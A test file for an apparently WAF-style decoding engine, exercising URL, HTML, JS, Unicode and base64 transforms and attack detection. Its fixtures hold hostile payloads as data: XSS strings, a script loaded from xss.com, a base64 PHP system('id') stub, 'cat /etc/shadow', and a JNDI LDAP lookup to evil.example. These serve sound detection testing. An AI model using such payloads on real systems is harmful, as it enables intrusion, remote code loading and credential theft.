// Transformations: each pure (bytes) -> bytes, with a fast path that returns its
// input when nothing changes. Cases in test/fixtures/transforms.json; properties:
// no trap on random bytes, idempotence where the transformation reaches a fixpoint.
import { readFileSync } from "node:fs";
import { beforeAll, describe, expect, it } from "vitest";
import fc from "fast-check";
import { loadHarness, type Harness } from "../support/harness.js";
import { transform, transformUnchanged, targetForms, inspect } from "../support/engine.js";

let h: Harness;
beforeAll(async () => {
  h = await loadHarness();
});

/** Base64 of a string's UTF-8 bytes (the PHP cases below hold NULs). */
const b64 = (s: string) => Buffer.from(s).toString("base64");
const fixtures: Record<string, [string, string | null][]> = JSON.parse(
  readFileSync(new URL("../fixtures/transforms.json", import.meta.url), "utf8"),
);
const run = (name: string, s: string | Uint8Array) => {
  const out = transform(h, name, typeof s === "string" ? Buffer.from(s, "utf8") : s);
  return out === null ? null : Buffer.from(out).toString("utf8");
};

describe("transformations", () => {
  for (const [name, cases] of Object.entries(fixtures)) {
    for (const [input, expected] of cases) {
      it(`${name}(${JSON.stringify(input)})`, () => {
        expect(run(name, input)).toBe(expected);
      });
    }
  }

  const fastPath: [string, string][] = [
    ["urlDecode", "no escapes here"], ["htmlDecode", "no entities"], ["jsDecode", "no escapes"],
    ["foldUnicode", "caf\u00e9 ascii"], ["foldCase", "lower case only"], ["normalisePath", "/a/b/c.txt"],
    ["quotedPrintable", "no equals sign"],
  ];
  for (const [name, input] of fastPath) {
    it(`${name} returns its input untouched when nothing changes`, () => {
      expect(transformUnchanged(h, name, Buffer.from(input))).toBe(true);
    });
  }

  // UTF-16 bodies with a byte order mark, as UTF-8 (bytes: the fixtures hold UTF-8 text)
  const le = (s: string) => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(s, "utf16le")]);
  const be = (s: string) => Buffer.concat([Buffer.from([0xfe, 0xff]), Buffer.from(s, "utf16le").swap16()]);
  it.each<[string, Buffer, string]>([
    ["little-endian", le("<q>caf\u00e9 \u{1F600}</q>"), "<q>caf\u00e9 \u{1F600}</q>"],
    ["big-endian", be("{\"q\":\"1' or 1=1\"}"), "{\"q\":\"1' or 1=1\"}"],
    ["a lone surrogate as U+FFFD", Buffer.concat([le("a"), Buffer.from([0x00, 0xd8]), Buffer.from("b\0", "latin1")]), "a\ufffdb"],
    ["an odd last byte dropped", Buffer.concat([le("ab"), Buffer.from([0x63])]), "ab"],
  ])("fromUtf16: %s", (_, input, expected) => {
    expect(run("fromUtf16", input)).toBe(expected);
  });
  // without a byte order mark: a JSON or XML document whose first two characters are ASCII beside NULs (RFC 4627)
  it.each<[string, Buffer, string]>([
    ["JSON, little-endian", Buffer.from('{"q":"caf\u00e9"}', "utf16le"), '{"q":"caf\u00e9"}'],
    ["JSON, big-endian", Buffer.from("[1, 2]", "utf16le").swap16(), "[1, 2]"],
    ["XML, little-endian", Buffer.from("<q>x</q>", "utf16le"), "<q>x</q>"],
  ])("fromUtf16 without a byte order mark: %s", (_, input, expected) => {
    expect(run("fromUtf16", input)).toBe(expected);
  });
  // UTF-32 (RFC 4627: `xx 00 00 00` little-endian, `00 00 00 xx` big-endian), with and without a byte order mark
  const u32 = (s: string, big = false) => {
    const cps = [...s].map((c) => c.codePointAt(0)!);
    const out = Buffer.alloc(cps.length * 4);
    cps.forEach((cp, i) => (big ? out.writeUInt32BE(cp, i * 4) : out.writeUInt32LE(cp, i * 4)));
    return out;
  };
  it.each<[string, Buffer, string]>([
    ["JSON, little-endian, no byte order mark", u32('{"q":"caf\u00e9 \u{1F600}"}'), '{"q":"caf\u00e9 \u{1F600}"}'],
    ["JSON, big-endian, no byte order mark", u32("[1, 2]", true), "[1, 2]"],
    ["XML, little-endian, no byte order mark", u32("<q>x</q>"), "<q>x</q>"],
    ["little-endian with FF FE 00 00", u32("\ufeff{\"a\":1}"), '{"a":1}'],
    ["big-endian with 00 00 FE FF", u32("\ufeffabc", true), "abc"],
    ["a unit past U+10FFFF or a surrogate as U+FFFD", Buffer.concat([u32("["), Buffer.from([0, 0, 0x11, 0]), Buffer.from([0x00, 0xd8, 0, 0]), u32("]")]), "[\ufffd\ufffd]"],
    ["a last unit cut short dropped", Buffer.concat([u32("[1]"), Buffer.from([0x20, 0])]), "[1]"],
  ])("fromUtf16 reads UTF-32: %s", (_, input, expected) => {
    expect(run("fromUtf16", input)).toBe(expected);
  });
  it.each<[string, Buffer]>([
    ["UTF-8", Buffer.from("<q>x</q>")],
    ["UTF-16 text that is no document (it opens with a letter)", Buffer.from("hello", "utf16le")],
    ["UTF-32 text that is no document (it opens with a letter)", Buffer.from([0x68, 0, 0, 0, 0x69, 0, 0, 0])],
    ["four NULs", Buffer.from([0, 0, 0, 0, 0x7b, 0, 0, 0])],
    ["a document whose first character has one NUL beside it, its second none (neither UTF-16 nor UTF-32)", Buffer.from([0x7b, 0, 0x22, 0x20, 0x7d, 0])],
    ["a protobuf message of zero fields (08 00 10 00)", Buffer.from([0x08, 0, 0x10, 0, 0x18, 0])],
    ["three bytes", Buffer.from([0x7b, 0, 0x7d])],
  ])("fromUtf16 returns %s untouched", (_, input) => {
    expect(transformUnchanged(h, "fromUtf16", input)).toBe(true);
  });

  const names = [...Object.keys(fixtures), "fromUtf16"];
  it("read a hex digit from every byte that is one, and from no other byte (urlDecode %4x, jsDecode \\x4x)", () => {
    const hex = "0123456789abcdefABCDEF";
    for (let b = 0; b < 256; b++) {
      const value = hex.includes(String.fromCharCode(b)) ? parseInt(String.fromCharCode(b), 16) : -1;
      // no escape: '%' stays, a backslash before a letter that opens no escape is dropped
      for (const [name, prefix, otherwise] of [["urlDecode", "%4", [0x25, 0x34, b]], ["jsDecode", "\\x4", [0x78, 0x34, b]]] as const) {
        const input = Uint8Array.from([...Buffer.from(prefix, "latin1"), b]);
        const out = transform(h, name, input);
        expect([...(out ?? input)], `${name} byte ${b}`).toEqual(value < 0 ? otherwise : [0x40 + value]);
      }
    }
  });

  it("never traps on random bytes", () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 300 }), fc.constantFrom(...names), (bytes, name) => {
        const out = transform(h, name, bytes);
        if (out !== null && name !== "base64") expect(out.length).toBeLessThanOrEqual(Math.max(bytes.length, 4) * 4);
      }),
      { numRuns: 400 },
    );
  });

  // Full URL decoding, folding and path normalisation are fixpoints: applying them twice changes nothing.
  const idempotent = ["urlDecodeFull", "foldCase", "normalisePath", "foldUnicode"];
  const alphabet = fc.constantFrom(..."aZ09%25%2e./\\ \t+&#;uFFxX<>".split(""), "%u002e", "\u00c0\u00af", "\uff41", "\u0000");
  for (const name of idempotent) {
    it(`${name} is idempotent`, () => {
      fc.assert(
        fc.property(fc.array(alphabet, { maxLength: 40 }).map((a) => a.join("")), (s) => {
          const once = transform(h, name, Buffer.from(s, "utf8"))!;
          const twice = transform(h, name, once)!;
          expect(Buffer.from(twice).equals(Buffer.from(once))).toBe(true);
        }),
        { numRuns: 300 },
      );
    });
  }
});

describe("decoded forms of a target", () => {
  it("chain URL, HTML and JS decoding into the folded form", () => {
    const forms = targetForms(h, 2, "%253CScript%253E&lt;IMG&#x20;src=x&gt;\\u0041");
    expect(forms).toEqual({
      decoded: "<Script>&lt;IMG&#x20;src=x&gt;\\u0041",
      html: "<Script><IMG src=x>\\u0041",
      js: "<Script>&lt;IMG&#x20;src=x&gt;A",
      path: "<Script>&lt;IMG&#x20;src=x&gt;/u0041",
      folded: "<script><img src=x>a",
      base64: null,
      unescaped: "<Script><IMG src=x>A",
    });
  });
  it("decode base64 from the last path segment", () => {
    expect(targetForms(h, 0, "/x/PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==").base64).toBe("<script>alert(1)</script>");
  });
  it.each([
    ["/PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg", "<?php system('id'); ?>"],
    ["/api/Y2F0IC9ldGMvc2hhZG93Pz8/", "cat /etc/shadow???"],
  ])("decode base64 whose '/' split it into path segments: %s", (path, text) => {
    expect(targetForms(h, 0, path).base64).toBe(text);
  });
  it.each(["/api/v1/orders/items", "/static/img/logo/large", "/a/b/c/d/e"])("find no base64 text in the plain path %s", (path) => {
    expect(targetForms(h, 0, path).base64).toBeNull();
  });
  // A form-decoded '+' arrives as a space; a NUL splitting a keyword is text too. Binary and prose stay null.
  const base64Cases: [string, string | null][] = [
    ["PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KGRvY3VtZW50LmRvbWFpbik L2FsbA", "<img src=x onerror=alert(document.domain)>/all"],
    ["PDxzY3IAaXB0L3NyYz1odHRwOi8veHNzLmNvbS94c3MuanM+PC9zY3JpcHQ", "<<scr\u0000ipt/src=http://xss.com/xss.js></script"],
    ["AAAAAAAAAAAAAAAAAAAA", null],
    ["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg", null],
    ["please send the parcel to my office before noon", null],
    ["Hello World", null],
    // a run of base64 inside a value: a GraphQL argument, a JSON text
    ['query { search(q: "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg") { id } }', "<script>alert(1)</script>"],
    ['{"data":"JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0="}', "${jndi:ldap://evil.example/a}"],
    ["session 3f9a2c7e1b8d4f6a9c0e2d4b6f8a1c3e expired", null],
    ["token=eyJhbGciOiJIUzI1NiJ9x9fQ2kLmN0pQrStUvWxYz012345", null],
    // PHP serialises a protected or private property's name between two NULs that open its string: text
    [b64('O:4:"Jobx":3:{s:6:"\0*\0cmd";s:2:"id";s:10:"\0Jobx\0run";b:1;s:6:"\0*\0tag";i:7;}'), 'O:4:"Jobx":3:{s:6:"\0*\0cmd";s:2:"id";s:10:"\0Jobx\0run";b:1;s:6:"\0*\0tag";i:7;}'],
    // UTF-16 text, and NULs after a quote that go on past a pair, stay binary
    [Buffer.from("hello world, see you", "utf16le").toString("base64"), null],
    [b64('s:9:"\0\0\0\0\0\0\0\0\0";x'), null],
    // a form feed is a blank to HTML (`"\fonfocus=`): text; other control bytes beside it are binary
    [b64('"\fonfocus=alert(1) autofocus x=":secret'), '"\fonfocus=alert(1) autofocus x=":secret'],
    [b64("ab\f\u0001cd\u0002\fef\u0003gh"), null],
    // UTF-8 text, however much of it is not ASCII (full-width forms, other scripts); a lone control byte
    // (stripped before `javascript:`) is text too, and bytes that are no well-formed UTF-8 are binary
    [b64("＜script＞alert(1)＜/script＞:secret"), "＜script＞alert(1)＜/script＞:secret"],
    [b64("東京都新宿区西新宿二丁目"), "東京都新宿区西新宿二丁目"],
    [b64("<iframe src='\u0001javascript:alert(1)'>:secret"), "<iframe src='\u0001javascript:alert(1)'>:secret"],
    [Buffer.from("caf\u00e9 cr\u00e8me br\u00fbl\u00e9e", "latin1").toString("base64"), null],
    [Buffer.from([0x3c, 0xc3, 0x28, 0x61, 0x62, 0x63, 0x64, 0x65, 0x66, 0xef, 0xbc, 0x41]).toString("base64"), null],
  ];
  for (const [value, text] of base64Cases) {
    it(`read ${value.slice(0, 24)}... as ${text === null ? "no base64 text" : "base64 text"}`, () => {
      expect(targetForms(h, 2, value).base64).toBe(text);
    });
  }
  it("give the same decoded forms whether or not the census was taken first (the engine takes it first)", () => {
    const unit = fc.oneof(
      fc.constantFrom("%", "%25", "%3C", "%26lt;", "%5Cu0041", "%00", "%C0%AF", "%u003C", "&", "&lt;", "&#x27;", "&amp;lt;", "\\", "\\u0041", "\\x3c", "\u0000", "\u00c0\u00af", "\uff1c", "\u2215"),
      fc.constantFrom("a", "Z", " ", "/", ".", "'", "<", ">", "(", ")", ";", "é"),
    );
    fc.assert(fc.property(fc.array(unit, { maxLength: 24 }), fc.integer({ min: 0, max: 9 }), (parts, kind) => {
      const v = parts.join("");
      expect(targetForms(h, kind, v, true)).toEqual(targetForms(h, kind, v));
    }), { numRuns: 400 });
  });
  it("decode the longest run of base64 letters in a value (the first of equal ones), when it has 20 or more", () => {
    const letter = /[A-Za-z0-9+/=_-]/; // both alphabets
    const expected = (v: string): string | null => {
      let best = "";
      for (const run of v.split(/[^A-Za-z0-9+/=_-]+/)) if (run.length > best.length) best = run;
      return best.length >= 20 && best.length < v.length ? targetForms(h, 2, best).base64 : null;
    };
    const run = fc.oneof(
      fc.string({ unit: fc.constantFrom(..."abcdefghijklmnopqrstuvwxyz "), minLength: 1, maxLength: 40 })
        .map((text) => Buffer.from(text).toString("base64").replace(/=+$/, "")),
      fc.string({ unit: fc.constantFrom(..."aZ09+/=_-"), minLength: 1, maxLength: 30 }),
      fc.constantFrom("word", "longer", "x"),
    );
    const gap = fc.string({ unit: fc.constantFrom(" ", '"', ":", ",", "{", "}", "."), minLength: 1, maxLength: 3 });
    fc.assert(fc.property(fc.array(fc.tuple(gap, run), { minLength: 1, maxLength: 8 }), (parts) => {
      const v = "{" + parts.map(([g, r]) => g + r).join("");
      expect(letter.test(v[0])).toBe(false);
      expect(targetForms(h, 2, v).base64).toBe(expected(v));
    }), { numRuns: 300 });
  });
  it("block XSS sent as base64 in a query whose '+' became a space", () => {
    const v = inspect(h, { path: "/?c=PGltZyBzcmM9eCBvbmVycm9yPWFsZXJ0KGRvY3VtZW50LmRvbWFpbik+L2FsbA", headers: [["host", "h"]] });
    expect(v.attack).toBe(true);
  });
});
